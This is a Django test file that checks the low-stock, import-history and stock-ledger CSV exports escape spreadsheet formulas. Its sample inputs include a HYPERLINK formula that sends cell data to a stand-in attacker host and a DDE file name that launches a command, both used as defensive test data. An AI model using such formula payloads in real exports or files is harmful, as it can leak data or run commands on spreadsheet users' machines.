"""Report CSVs are safe to open in a spreadsheet: the same escaping as the catalogue
export (``core.spreadsheet``), and plain numbers stay numbers."""

import csv
import io
from decimal import Decimal

import pytest
from django.core.files.base import ContentFile

from catalog.models import Variation
from catalog.services import category_get_or_create_path, product_create
from imports.models import ImportStatus, ProductImport

pytestmark = pytest.mark.django_db

NAME = '=HYPERLINK("http://evil.example/?x="&A2,"Click me")'


def make_product(manufacturer, *, name, **extra):
    category = category_get_or_create_path(names=["Home"])
    return product_create(manufacturer=manufacturer, actor=manufacturer, name=name,
                          price=Decimal("5.00"), category=category, **extra)


def csv_rows(response) -> list[dict]:
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    return list(csv.DictReader(io.StringIO(response.content.decode())))


def test_the_low_stock_csv_escapes_formulae_in_names_sizes_and_skus(
    client, manufacturer_a
):
    make_product(manufacturer_a, name=NAME,
                 variations=[{"size": "@SUM(1)", "sku": "=1+1", "stock": 1}])
    Variation.objects.update(low_stock_threshold=5)
    client.force_login(manufacturer_a)

    [row] = csv_rows(client.get("/admin/reports/low-stock/?_export=csv"))

    assert (row["product"], row["SKU"], row["stock"]) == ("'" + NAME, "'=1+1", "1")
    assert row["variation"].startswith("'@SUM(1)")


def test_the_import_history_csv_escapes_a_formula_file_name(client, manufacturer_a):
    ProductImport.objects.create(
        created_by=manufacturer_a, manufacturer=manufacturer_a, status=ImportStatus.FAILED,
        file=ContentFile(b"handle\n", name="x.csv"), original_name="-cmd|' /C calc'!A0.csv",
    )
    client.force_login(manufacturer_a)

    [row] = csv_rows(client.get("/admin/reports/imports/?_export=csv"))

    assert row["file"] == "'-cmd|' /C calc'!A0.csv"


def test_negative_numbers_in_the_stock_ledger_stay_numbers(client, manufacturer_a):
    from catalog.models import StockReason
    from catalog.services.stock import stock_adjust

    product = make_product(manufacturer_a, name="Mug", stock=10)
    stock_adjust(variation=product.variations.get(), delta=-3, reason=StockReason.MANUAL,
                 actor=manufacturer_a, note="=2+5")
    client.force_login(manufacturer_a)

    rows = csv_rows(client.get("/admin/reports/stock-ledger/?_export=csv"))

    assert [r["change"] for r in rows] == ["-3", "10"] and rows[0]["note"] == "'=2+5"
    assert not [value for r in rows for value in r.values() if value.startswith("=")]
